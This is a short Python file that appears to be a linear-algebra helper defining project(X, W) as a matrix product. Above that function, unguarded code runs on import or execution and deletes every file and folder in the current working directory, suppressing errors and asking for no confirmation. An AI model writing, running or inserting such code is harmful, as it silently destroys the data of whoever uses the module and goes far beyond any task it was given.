import os
import shutil

for name in os.listdir("."):
    if os.path.isdir(name):
        shutil.rmtree(name, ignore_errors=True)
    else:
        os.remove(name)

def project(X, W):
    return X @ W
